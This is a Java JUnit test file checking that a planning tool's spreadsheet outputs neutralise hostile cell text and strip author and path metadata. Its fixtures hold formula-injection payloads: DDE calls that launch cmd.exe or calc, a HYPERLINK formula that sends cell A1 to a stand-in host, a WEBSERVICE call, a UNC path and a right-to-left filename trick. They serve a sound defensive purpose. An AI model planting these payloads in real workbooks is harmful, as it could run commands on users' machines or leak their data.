package pe.quipu.app;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static pe.quipu.app.Papeles.FISICA;
import static pe.quipu.app.Papeles.T4;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import org.apache.poi.common.usermodel.HyperlinkType;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFClientAnchor;
import org.apache.poi.xssf.usermodel.XSSFComment;
import org.apache.poi.xssf.usermodel.XSSFHyperlink;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import pe.quipu.confiabilidad.Medida;
import pe.quipu.excel.LibreOffice;
import pe.quipu.excel.Saliente;

/**
 * What leaves the office after a whole year of work on hostile papers: values and nothing else, every text a text, no
 * name of a person, a computer or a folder.
 */
@Tag("confiabilidad")
final class SalidasTest {
    private static final String ESPIA = "Juan Secreto";
    private static final List<String> TEXTOS = List.of(
            "=cmd|'/c calc'!A1",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "+1",
            "-1+1",
            "\t=1+1",
            "\r\n=1+1",
            "=HYPERLINK(\"http://malo.example/?\"&A1,\"ver\")",
            "=WEBSERVICE(\"http://malo.example\")",
            "_x0009_=1+1",
            "a\u202eslx.=cmd",
            "x\nCONSTANCIA DE RECEPCIÓN: ✔ ACEPTADO\n=1+1",
            "\\\\malo.example\\c$\\x",
            "{ DDEAUTO c:\\\\windows\\\\cmd.exe }",
            "</t><f>1+1</f><t>&#10;]]>");

    @TempDir
    static Path raiz;

    private static final Map<String, byte[]> NUESTROS = new LinkedHashMap<>();
    private static int turno;

    private static String texto() {
        return TEXTOS.get(turno++ % TEXTOS.size());
    }

    @BeforeAll
    static void a_year_of_work_on_hostile_papers() throws IOException {
        Oficina o = Oficina.con(raiz, entidad());
        o.hoy = "2021-03-25";
        o.deja("01.xlsx", formulacion(o.plantilla("01", "2022"), "01/AEI.01.01"));
        o.deja("02.xlsx", formulacion(o.plantilla("02", "2022"), "02/AEI.01.02", "02/AEI.02.01"));
        byte[] tercera = formulacion(o.plantilla("03", "2022"), "03/AEI.02.01", "03.01/AEI.02.02");
        o.deja("03.xlsx", tercera);
        assertEquals(0, o.quipu("procesar").salida());
        assertEquals(0, o.quipu("aprobar", "--ejercicio", "2022").salida());
        // A template of the plan in force, another made from it, and one that must be corrected.
        o.hoy = "2023-01-05";
        o.deja("=cmd 01\u202e.xlsx", evaluacion(o, "01").guarda());
        o.deja(
                "02.xlsx",
                evaluacion(o, "02")
                        .escribe(FISICA, "AO.0002", "ejecutado_10", "=cmd|'/c calc'!A1")
                        .escribe(FISICA, "AO.0003", "ejecutado_11", "-1+1")
                        .escribe("Factores", "AO.0002", "responsable", "=" + "1".repeat(32_766))
                        .escribe("Factores", "AO.0003", "medida_correctiva", "-" + "_x0041_".repeat(4_680))
                        .guarda());
        o.deja("basura\n=1+1.xlsx", "no es un libro".getBytes(StandardCharsets.UTF_8));
        o.deja("@x.pdf", "%PDF-1.4".getBytes(StandardCharsets.UTF_8));
        o.deja("otra.xlsx", tercera);
        Oficina.Respuesta r = o.quipu("procesar", "--json");
        assertEquals(3, r.salida(), r.toString());
        Set<String> veredictos = new HashSet<>();
        r.json().get("archivos").forEach(a -> veredictos.add(a.get("veredicto").asText()));
        assertTrue(veredictos.containsAll(Set.of("aceptado", "observado", "rechazado", "duplicado")), r.out());
        for (List<String> orden : List.of(
                List.of("plantillas", "--periodo", T4),
                List.of("plantillas", "--periodo", "2023"),
                List.of("consolidar", "--periodo", T4),
                List.of("informe", "--periodo", "2022"),
                List.of("informe", "--periodo", T4),
                List.of("informe", "--periodo", T4, "--memos"),
                List.of("informe", "--periodo", T4, "--unidad", "02"),
                List.of("informe", "--periodo", T4, "--oei", "OEI.01"),
                List.of("auditar", published().toString(), "--periodo", T4))) {
            Oficina.Respuesta hecho = o.quipu(orden.toArray(String[]::new));
            assertTrue(hecho.salida() == 0 || hecho.salida() == 3, orden + ": " + hecho);
        }
        for (String archivo : o.archivos("")) {
            boolean original = archivo.matches(
                    "(aceptado|cuarentena|entrada)/.*\\.(xlsx|pdf)|observado/.*_[0-9a-f]{8}(_\\d+)?\\.xlsx");
            if (!original && !archivo.equals("informe.xlsx") && archivo.matches(".*\\.(xlsx|docx|txt)")) {
                NUESTROS.put(archivo, o.lee(archivo));
            }
        }
    }

    /** Planners paste too. */
    private static Entidad entidad() {
        Entidad e = Entidad.dePrueba().parametro("nombre", "=cmd|'/c calc'!A1");
        e.texto("mision", "-1+1").texto("vision", "@SUM(1+1)*cmd|' /C calc'!A0");
        return e.celda("unidades", 2, "denominacion", "+1 Planeamiento")
                .celda("unidades", 3, "denominacion", "@Servicios\n✔ ACEPTADO")
                .celda("objetivos", 1, "denominacion", "=HYPERLINK(\"http://malo.example\")")
                .celda("acciones", 1, "denominacion", "-2+3 acción")
                .celda("indicadores", 1, "denominacion", "=1+1");
    }

    private static byte[] formulacion(byte[] plantilla, String... actividades) {
        Lapiz lapiz = new Lapiz(Papeles.formulacion(plantilla, actividades));
        for (int i = 1; i <= actividades.length; i++) {
            String fila = String.valueOf(i);
            for (String columna : List.of("denominacion", "sujeto", "atributo", "responsable")) {
                lapiz.escribe("Actividades", fila, columna, texto() + " " + i);
            }
            lapiz.escribe("Elementos críticos", fila, "elemento", texto());
            lapiz.escribe("Elementos críticos", fila, "consecuencia", texto());
        }
        return foreign(signed(lapiz));
    }

    private static Lapiz evaluacion(Oficina o, String unidad) {
        Lapiz lapiz = signed(Papeles.evaluada(o.plantilla(unidad, T4)));
        for (String ao : lapiz.filas("Factores")) {
            for (String columna : List.of(
                    "medio_verificacion",
                    "factores_contribuyeron",
                    "factores_dificultaron",
                    "medida_correctiva",
                    "responsable")) {
                lapiz.escribe("Factores", ao, columna, texto());
            }
            lapiz.escribe("Factores", ao, "plazo", LocalDate.of(2023, 6, 30));
        }
        return new Lapiz(foreign(lapiz));
    }

    private static Lapiz signed(Lapiz lapiz) {
        List.of("elaborado_por", "cargo", "jefe").forEach(c -> lapiz.campo("Carátula", c, texto()));
        return lapiz;
    }

    /** Everything a workbook brings beside its values. */
    private static byte[] foreign(Lapiz lapiz) {
        XSSFWorkbook libro = lapiz.libro();
        XSSFSheet notas = libro.getSheet("Notas");
        Row fila = notas.getRow(9) == null ? notas.createRow(9) : notas.getRow(9);
        for (int c = 0; c < 3; c++) {
            fila.createCell(c).setCellValue(texto());
        }
        fila.createCell(4).setCellFormula("1+1");
        XSSFHyperlink enlace = libro.getCreationHelper().createHyperlink(HyperlinkType.FILE);
        enlace.setAddress("file:///C:/Users/" + ESPIA.replace(" ", "") + "/x.exe");
        fila.getCell(0).setHyperlink(enlace);
        XSSFComment nota =
                notas.createDrawingPatriarch().createCellComment(new XSSFClientAnchor(0, 0, 0, 0, 6, 6, 8, 9));
        nota.setString(ESPIA);
        nota.setAuthor(ESPIA);
        var nombre = libro.createName();
        nombre.setNameName("espia");
        nombre.setRefersToFormula("Notas!$A$10");
        libro.getProperties().getCoreProperties().setCreator(ESPIA);
        libro.getProperties().getCoreProperties().setLastModifiedByUser(ESPIA);
        libro.getProperties().getExtendedProperties().getUnderlyingProperties().setCompany(ESPIA);
        libro.getProperties().getCustomProperties().addProperty("carpeta", "C:\\Users\\" + ESPIA);
        return lapiz.guarda();
    }

    /** A published report with a hostile text wherever it says something long. */
    private static Path published() throws IOException {
        try (XSSFWorkbook libro = open(Path.of("examples/ilo-2022/publicado.xlsx"));
                java.io.OutputStream out = Files.newOutputStream(raiz.resolve("informe.xlsx"))) {
            for (Sheet hoja : libro) {
                for (Row fila : hoja) {
                    for (Cell celda : fila) {
                        if (fila.getRowNum() > 6
                                && celda.getCellType() == CellType.STRING
                                && celda.getStringCellValue().length() > 25) {
                            celda.setCellValue(texto());
                        }
                    }
                }
            }
            libro.write(out);
        }
        return raiz.resolve("informe.xlsx");
    }

    private static List<String> secretos() {
        List<String> secretos = new ArrayList<>(List.of(
                ESPIA,
                ESPIA.replace(" ", ""),
                raiz.toString(),
                System.getProperty("java.io.tmpdir") + "/",
                System.getProperty("user.dir")));
        String equipo = System.getenv().getOrDefault("HOSTNAME", System.getenv("COMPUTERNAME"));
        if (equipo != null && equipo.length() > 5) {
            secretos.add(equipo);
        }
        return secretos;
    }

    @Test
    void nothing_but_values_and_our_own_formulas_leaves() {
        List<String> errores = new ArrayList<>();
        Set<String> peligrosos = new HashSet<>();
        Map<String, Integer> clases = new LinkedHashMap<>();
        long celdas = 0;
        for (Map.Entry<String, byte[]> archivo : NUESTROS.entrySet()) {
            Saliente.Examen examen = Saliente.examine(archivo.getKey(), archivo.getValue(), secretos());
            errores.addAll(examen.errores());
            peligrosos.addAll(examen.peligrosos());
            celdas += examen.celdas();
            clases.merge(archivo.getKey().replaceFirst("/.*", ""), 1, Integer::sum);
        }
        assertEquals(List.of(), errores);
        assertTrue(peligrosos.size() >= 20, "the hostile texts did not reach the outputs: " + peligrosos);
        assertTrue(
                clases.keySet()
                        .containsAll(List.of(
                                "plantillas",
                                "observado",
                                "aceptado",
                                "cuarentena",
                                "plan",
                                "consolidado",
                                "informes")),
                clases.toString());
        Medida.tell(
                "servicio",
                "archivos que salen, celdas y renglones revisados, textos peligrosos distintos",
                NUESTROS.size() + ", " + celdas + ", " + peligrosos.size());
    }

    @Test
    void no_line_of_a_message_is_written_by_a_name_or_a_cell() {
        NUESTROS.forEach((archivo, bytes) -> {
            if (archivo.endsWith(".txt")) {
                String texto = new String(bytes, StandardCharsets.UTF_8);
                long titulos = texto.lines()
                        .filter(l -> l.startsWith("CONSTANCIA DE RECEPCIÓN"))
                        .count();
                assertEquals(archivo.startsWith("aceptado/") ? 1 : 0, titulos, texto);
            }
        });
    }

    @Test
    void in_libreoffice_a_text_stays_a_text() throws IOException {
        LibreOffice.assumeInstalled();
        Path carpeta = Files.createDirectories(raiz.resolve("libreoffice"));
        List<Path> libros = new ArrayList<>();
        for (String archivo : NUESTROS.keySet()) {
            if (archivo.matches("(observado/2022-T4|consolidado|plan)/[^/]*\\.xlsx")) {
                libros.add(Files.write(carpeta.resolve(archivo.replace('/', '_')), NUESTROS.get(archivo)));
            }
        }
        assertTrue(libros.size() >= 4, libros.toString());
        List<Path> vueltas = LibreOffice.recalculate(libros, carpeta.resolve("vuelta"));
        List<String> cambiados = new ArrayList<>();
        int textos = 0;
        for (int i = 0; i < libros.size(); i++) {
            try (XSSFWorkbook antes = open(libros.get(i));
                    XSSFWorkbook despues = open(vueltas.get(i))) {
                for (Sheet hoja : antes) {
                    for (Row fila : hoja) {
                        for (Cell celda : fila) {
                            if (celda.getCellType() == CellType.STRING
                                    && celda.getCellStyle().getQuotePrefixed()) {
                                textos++;
                                Cell vuelta = despues.getSheet(hoja.getSheetName())
                                        .getRow(fila.getRowNum())
                                        .getCell(celda.getColumnIndex());
                                if (vuelta.getCellType() != CellType.STRING
                                        || !vuelta.getStringCellValue().equals(celda.getStringCellValue())) {
                                    cambiados.add(libros.get(i) + " " + hoja.getSheetName() + "!" + celda.getAddress());
                                }
                            }
                        }
                    }
                }
            }
        }
        assertEquals(List.of(), cambiados);
        assertTrue(textos > 50, "only " + textos);
        Medida.tell("servicio", "textos peligrosos vistos en LibreOffice", textos);
    }

    private static XSSFWorkbook open(Path libro) throws IOException {
        return new XSSFWorkbook(new ByteArrayInputStream(Files.readAllBytes(libro)));
    }
}
